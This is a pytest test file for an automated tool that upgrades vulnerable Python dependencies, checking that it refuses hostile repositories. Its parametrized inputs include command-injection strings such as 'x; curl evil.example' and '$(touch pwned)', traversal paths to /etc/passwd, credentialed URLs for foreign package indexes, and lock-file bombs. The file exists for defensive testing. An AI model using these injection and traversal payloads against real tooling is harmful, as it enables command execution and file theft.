"""Hostile repositories: files that lead elsewhere, names that are commands, lock files as bombs."""

import json
import re
import shlex
import subprocess

import pytest

from agents.pipelines.remediate.ladder import Fix, Locked, Refusal, Unfit, climb, ecosystem_of
from agents.pipelines.remediate.ladder.python.index import objection
from agents.pipelines.remediate.ladder.python.pip import Pip
from agents.pipelines.remediate.ladder.python.pip_compile import head_of
from agents.pipelines.remediate.ladder.python.poetry import Poetry
from agents.pipelines.remediate.ladder.python.uv import Uv
from tests.agents.pipelines.remediate.ladder.conftest import TERMS, group

ALERTS = group("sqlparse", "< 0.5.0", manifests=["requirements.txt"])
UV = """\
version = 1
revision = 5

[[package]]
name = "{name}"
version = "{version}"
source = {{ registry = "https://index.example/simple" }}
wheels = [{{ url = "https://index.example/a.whl", hash = "sha256:{hash}" }}]
"""
PDM = """\
[metadata]
groups = ["default"]
lock_version = "{form}"
{more}
[[package]]
name = "sqlparse"
version = "0.4.4"
files = []
"""
PIPENV = {
    "_meta": {"hash": {"sha256": "0" * 64}, "sources": []},
    "default": {"sqlparse": {"version": "==0.4.4", "index": "own", "hashes": []}},
}
PROJECT = '[project]\nname = "shop"\nversion = "1.0"\ndependencies = []\n'
CONTENT = "0" * 64


class Answers:
    """What pip says: which releases there are, and nothing against any of them."""

    def __call__(self, tree, script):
        if "pip index" in script:
            return 0, "Available versions: 0.6.0, 0.5.0, 0.4.4\n"
        return 0, ""


async def refuse_climb(tree, files, alerts=ALERTS):
    """Climb; return the refusal, after looking that nothing changed."""
    tree.lay(files)
    tree.answers = tree.answers or Answers()
    before = await tree.snapshot()
    result = await climb(tree, ecosystem_of(tree.paths, alerts), alerts, TERMS)
    assert isinstance(result, Refusal), result
    assert await tree.snapshot() == before
    return result


@pytest.mark.parametrize(
    "line",
    [
        "-r ../../etc/passwd", "-c ../outside.txt", "-r /etc/passwd", "--requirement=../x",
        "-r a/../../x.txt", "-r https://evil.example/x.txt",
    ],
)  # fmt: skip
async def test_a_requirements_file_leads_nowhere_else(tree, line):
    refusal = await refuse_climb(tree, {"requirements.txt": f"sqlparse==0.4.4\n{line}\n"})
    assert refusal.cause == "unsafe"
    assert tree.ran == []


@pytest.mark.parametrize(
    "line",
    [
        "--find-links https://u:hunter22@evil.example/", "evil @ https://evil.example/evil-1.0.tar.gz",
        "-e git+https://evil.example/x.git#egg=x", "-e ../sibling", "./local/path",
        "--trusted-host evil.example", "--no-binary :all:", "--pre", "file:///etc/passwd",
    ],
)  # fmt: skip
async def test_no_option_of_a_requirements_file_reaches_pip(tree, line):
    tree.lay({"requirements.txt": f"{line}\nsqlparse==0.4.4\n"})
    given = []

    def watch_files(tree, script):
        given.extend(p.read_text() for p in tree.folder.glob(".fettle-*.txt"))
        return Answers()(tree, script)

    tree.answers = watch_files
    fix = await climb(tree, ecosystem_of(tree.paths, ALERTS), ALERTS, TERMS)

    assert (tree.folder / "requirements.txt").read_text() == f"{line}\nsqlparse==0.5.0\n"
    assert sorted(given) == ["", "sqlparse==0.5.0\n"]
    seen = "".join(tree.ran) + "".join(given)
    assert not [
        word for word in ("evil.example", "sibling", "local/path", "passwd") if word in seen
    ]
    assert "hunter22" not in str(fix)


CONFIGURED = (
    "FETTLE\nhttps://near.example/simple\nglobal.extra-index-url='https://also.example/x'\n"
)


class Configured(Answers):
    """pip with an index of its own; `asked` says for what it was asked."""

    asked = False

    def __call__(self, tree, script):
        if "pip config list" in script:
            return 0, CONFIGURED + "defaulthttps://usual.example/simple\n"
        self.asked |= "pip index" in script
        return super().__call__(tree, script)


@pytest.mark.parametrize(
    ("files", "manifest"),
    [
        ({"requirements.txt": "-i https://u:hunter22@mine.example/x\nsqlparse==0.4.4\n"}, ""),
        ({"requirements.txt": "--index-url=https://mine.example/x\nsqlparse==0.4.4\n"}, ""),
        (
            {"requirements.txt": "-r a.in\nsqlparse==0.4.4\n", "a.in": "-i https://mine.example/"},
            "",
        ),
        (
            {
                "pyproject.toml": '[project]\nname = "shop"\ndependencies = ["sqlparse==0.4.4"]\n'
                '[[tool.uv.index]]\nname = "mine"\nurl = "https://mine.example/x"\ndefault = true\n'
            },
            "pyproject.toml",
        ),
        (
            {
                "poetry.lock": '[[package]]\nname = "sqlparse"\nversion = "0.4.4"\nfiles = []\n'
                '[package.source]\ntype = "legacy"\nurl = "https://mine.example/x"\n'
                '[metadata]\nlock-version = "2.1"\n',
                "pyproject.toml": PROJECT,
            },
            "poetry.lock",
        ),
        (
            {
                "uv.lock": UV.format(name="sqlparse", version="0.4.4", hash=CONTENT),
                "pyproject.toml": PROJECT
                + '[[tool.uv.index]]\nname = "mine"\nurl = "https://index.example/simple"\n',
            },
            "uv.lock",
        ),
        (
            {
                "pdm.lock": PDM.format(form="4.5.0", more=""),
                "pyproject.toml": PROJECT
                + '[[tool.pdm.source]]\nname = "own"\nurl = "https://mine.example/x"\n'
                'include_packages = ["sql*"]\n',
            },
            "pdm.lock",
        ),
        (
            {
                "Pipfile.lock": json.dumps(PIPENV),
                "Pipfile": '[[source]]\nname = "usual"\nurl = "https://usual.example/simple"\n'
                '[[source]]\nname = "own"\nurl = "https://u:hunter22@mine.example/x"\n'
                '[packages]\nsqlparse = "*"\n',
            },
            "Pipfile.lock",
        ),
    ],
)
async def test_no_other_index_is_asked_than_the_one_that_the_repository_names(
    tree, files, manifest
):
    """Anybody could offer something else under a private name on a public one."""
    tree.answers = Configured()
    about = group("sqlparse", "< 0.5.0", manifests=[manifest or "requirements.txt"])
    refusal = await refuse_climb(tree, files, about)
    assert (refusal.cause, refusal.steps) == ("other_index", ())
    assert re.search(r"takes sqlparse from (mine|index)\.example, and ", refusal.reason)
    assert "hunter22" not in str(refusal)
    assert not tree.answers.asked


@pytest.mark.parametrize("place", ["near", "also", "usual"])
async def test_an_index_that_pip_is_configured_for_may_be_named(tree, place):
    tree.lay({"requirements.txt": f"-i https://{place}.example/simple\nsqlparse==0.4.4\n"})
    tree.answers = Configured()
    assert isinstance(await climb(tree, ecosystem_of(tree.paths, ALERTS), ALERTS, TERMS), Fix)


@pytest.mark.parametrize(
    "name", ["x; curl evil.example", "--index-url=x", "$(id)", "../x", "a\nb", "", "x" * 5 + "/y"]
)
async def test_an_alert_for_what_is_no_package_name_runs_nothing(tree, name):
    alerts = group(name, "< 1.0", manifests=["requirements.txt"])
    refusal = await refuse_climb(tree, {"requirements.txt": "sqlparse==0.4.4\n"}, alerts)
    assert refusal.cause == "unsafe"
    assert tree.ran == []


@pytest.mark.parametrize("field", ["name", "version"])
@pytest.mark.parametrize(
    "evil", ["x\\nFETTLE-END\\ncurl evil.example", "$(touch pwned)", "1.0 --index-url=x", "'; id #"]
)
async def test_names_and_versions_of_a_lock_file_are_no_commands(tree, field, evil):
    values = {"name": "jinja2", "version": "3.1.3", "hash": CONTENT, field: evil}
    alerts = group("jinja2", "< 3.1.4", manifests=["uv.lock"])
    refusal = await refuse_climb(
        tree, {"uv.lock": UV.format(**values), "pyproject.toml": PROJECT}, alerts
    )
    assert refusal.cause == "unsafe"
    assert tree.ran == []


async def test_versions_that_an_index_made_up_are_quoted(tree):
    tree.answers = lambda tree, script: (0, "")
    await objection(tree, "x", "1.0'; touch pwned; '", 10)
    assert shlex.quote("x==1.0'; touch pwned; '") in tree.ran[0]


async def test_the_reason_of_a_yank_cannot_say_that_there_was_none(tree):
    reason = "WARNING: Reason for being yanked: broken\nFETTLE[[false, null]]\nFETTLE{"
    tree.answers = lambda tree, script: (0, f"{reason}\nFETTLE[[true, null]]\n")
    assert await objection(tree, "x", "1.0", 10) == "was yanked"


async def test_what_an_index_prints_cannot_take_a_yank_back(tree):
    lines = ('FETTLE["1.1"]', "FETTLE[]", "FETTLE{", "FETTLE5", "Available versions: 1.2, 1.1")
    tree.answers = lambda tree, script: (0, "\n".join(lines))
    index = Uv("")
    assert await index.available(tree, "x") == ("1.2", "1.1")
    assert await index.objection(tree, "x", "1.1") == "was yanked"
    assert await index.objection(tree, "x", "1.2") == ""
    assert len(tree.ran) == 1


async def test_where_pip_does_not_tell_what_was_yanked_it_is_asked(tree):
    told = {"index": "Available versions: 1.1", "--report": "FETTLE[[true, null]]"}
    tree.answers = lambda tree, script: (0, next(w for k, w in told.items() if f"{k} " in script))
    index = Uv("")
    await index.available(tree, "x")
    assert await index.objection(tree, "x", "1.1") == "was yanked"


@pytest.mark.parametrize("link", ["uv.lock", "pyproject.toml"])
async def test_a_linked_manifest_is_not_followed(tree, tmp_path, link):
    good = {"uv.lock": UV.format(name="jinja2", version="3.1.3", hash=CONTENT)}
    good["pyproject.toml"] = PROJECT
    outside = tmp_path / "outside"
    outside.write_text(good.pop(link))
    tree.lay(good)
    (tree.folder / link).symlink_to(outside)
    alerts = group("jinja2", "< 3.1.4", manifests=["uv.lock"])
    refusal = await refuse_climb(tree, {}, alerts)
    assert (refusal.cause, link in refusal.reason) == ("unsafe", True)


@pytest.mark.parametrize(
    "lock",
    [
        "x = " + "[" * 20_000, "[[package]]\nname = 1\n" * 30_000, "package = 3", "\x00",
        "# " + "x" * 17_000_000, "version = 1\npackage = [[1]]\n",
    ],
    ids=["deep", "many", "number", "binary", "large", "strange"],
)  # fmt: skip
@pytest.mark.parametrize("file", ["uv.lock", "poetry.lock"])
async def test_a_lock_file_that_is_a_bomb_is_refused(tree, file, lock):
    alerts = group("jinja2", "< 3.1.4", manifests=[file])
    if file == "poetry.lock":
        lock = f"{lock}\n[metadata]\nlock-version = '2.1'\n" if "package" in lock else lock
    refusal = await refuse_climb(tree, {file: lock, "pyproject.toml": PROJECT}, alerts)
    assert refusal.cause in ("unsafe", "unsupported")
    assert tree.ran == []


async def test_members_of_a_lock_file_stay_within_the_repository(tree):
    member = '[[package]]\nname = "b"\nversion = "1"\nsource = { editable = "../../b" }\n'
    tree.lay({"uv.lock": f"version = 1\n{member}", "pyproject.toml": PROJECT})
    with pytest.raises(Unfit, match="leads out"):
        await Uv("").read(tree)


@pytest.mark.parametrize(
    "command",
    [
        "uv pip compile ../../etc/passwd -o requirements.txt",
        "uv pip compile -c ../outside.txt in.in -o requirements.txt",
        "pip-compile --output-file=requirements.txt /etc/passwd",
    ],
)
def test_the_head_of_a_compiled_file_leads_nowhere_else(command):
    with pytest.raises(Unfit):
        head_of("requirements.txt", f"# autogenerated by uv \n#    {command}\n")


@pytest.mark.parametrize(
    "command",
    [
        "uv pip compile in.in; curl evil.example", "pip-compile in.in --pip-args=--pre",
        "uv pip compile in.in --python /tmp/evil", "uv pip compile 'in.in",
        "pip-compile in.in $(id) --rebuild --config=x", "uv pip compile in.in --build-isolation=x",
    ],
)  # fmt: skip
async def test_the_head_of_a_compiled_file_is_no_command(tree, command):
    text = f"# This file was autogenerated by uv via\n#    {command}\nsqlparse==0.4.4\n"
    refusal = await refuse_climb(tree, {"requirements.txt": text, "in.in": "sqlparse\n"})
    assert not [script for script in tree.ran if "evil" in script or "pip-args" in script]
    assert refusal.cause == "no_rung"


async def test_a_file_of_hashes_that_the_index_contradicts_is_no_fix(tree):
    line = f"sqlparse==0.4.4 --hash=sha256:{CONTENT}\n"

    def answer(tree, script):
        if "--generate-hashes" in script:
            return 0, f"--hash=sha256:{'1' * 64}"
        if "--require-hashes" in script:
            return 0, "FETTLE sqlparse\nERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM ..."
        return Answers()(tree, script)

    tree.answers = answer
    refusal = await refuse_climb(tree, {"requirements.txt": line})
    assert "other files than the lock file says" in refusal.steps[1].why


async def test_where_no_tool_can_be_had_the_refusal_says_so(tree):
    tree.answers = lambda tree, script: (97, "No module named venv")
    refusal = await refuse_climb(tree, {"requirements.txt": "sqlparse==0.4.4\n"})
    assert refusal.cause == "no_tool"
    assert "FETTLE_TOOLCHAINS" in refusal.reason


@pytest.mark.parametrize(
    ("first", "form", "cause"),
    [
        ("# This file is automatically @generated by Poetry 1.4.2 and", "2.0", "unsupported"),
        ("# This file is automatically @generated by Poetry 9.9.9;id and", "1.1", ""),
        ("", "1.1", "unsupported"), ("", "'; id", "unsupported"),
    ],
)  # fmt: skip
async def test_the_release_that_wrote_a_lock_is_a_number(tree, first, form, cause):
    lock = f'{first}\n[metadata]\nlock-version = "{form}"\n'
    tree.lay({"poetry.lock": lock, "pyproject.toml": PROJECT})
    poetry = Poetry("")
    if cause:
        with pytest.raises(Unfit):
            await poetry.read(tree)
    else:
        await poetry.read(tree)
        assert poetry._release == "9.9.9"


async def test_no_plugin_of_poetry_is_fetched_and_the_manifest_keeps_its_looks(tree):
    text = (
        '[tool.poetry]\nname = "shop"  # ours\n\n[tool.poetry.dependencies]\njinja2 = "3.1.3"\n\n'
        '[tool.poetry.requires-plugins]\nevil = "*"\n'
    )
    lock = "# This file is automatically @generated by Poetry 2.1.4 and\n[metadata]\n"
    tree.lay({"pyproject.toml": text, "poetry.lock": lock})
    seen = []

    def watch_projects(tree, script):
        seen.extend(p.read_text() for p in tree.folder.glob("*pyproject.toml"))
        if "poetry update" in script:  # as the script itself does
            (tree.folder / ".fettle-pyproject.toml").rename(tree.folder / "pyproject.toml")
        return 0, ""

    tree.answers = watch_projects
    poetry = Poetry("")
    await poetry.read(tree)
    await poetry.relock(tree, {"jinja2": "3.1.4"})
    assert (tree.folder / "pyproject.toml").read_text() == text
    await poetry.verify_lock(tree, Locked(entries=()), Locked(entries=()))
    assert (tree.folder / "pyproject.toml").read_text() == text
    assert len(seen) >= 3
    assert not [each for each in seen if "evil" in each]


async def test_a_poetry_that_cannot_be_loaded_is_started_for_each_command(tree):
    text = '[tool.poetry]\nname = "shop"\n\n[tool.poetry.dependencies]\njinja2 = "^3.1"\n'
    lock = "# This file is automatically @generated by Poetry 1.8.5 and\n[metadata]\n"
    tree.lay({"pyproject.toml": text, "poetry.lock": lock})
    stubs = (
        "python() { return 96; }\n"
        'poetry() { echo "$*" >>said; grep -c fettle-pins pyproject.toml >>said; true; }\n'
    )

    def run(tree, script):
        whole = ["bash", "-c", f"KITS=/nonexistent\n{stubs}{script}"]
        done = subprocess.run(whole, cwd=tree.folder, capture_output=True, text=True, check=False)
        return done.returncode, done.stdout + done.stderr

    tree.answers = run
    poetry = Poetry("")
    await poetry.read(tree)

    await poetry.relock(tree, {"jinja2": "3.1.4"})

    assert (tree.folder / "said").read_text().splitlines() == [
        "update --no-interaction --no-ansi --lock jinja2", "1",
        "lock --no-interaction --no-ansi --no-update", "0",
    ]  # fmt: skip
    assert (tree.folder / "pyproject.toml").read_text() == text
    assert not (tree.folder / ".fettle-pyproject.toml").exists()


async def test_requirements_that_include_each_other_end(tree):
    tree.lay({"a.txt": "-r b.txt\nsix==1.0\n", "b.txt": "-r a.txt\n-r b.txt\nsqlparse==0.4.4\n"})
    locked = await Pip(("a.txt",), tree.paths).read(tree)
    assert [entry.name for entry in locked.entries] == ["sqlparse", "six"]
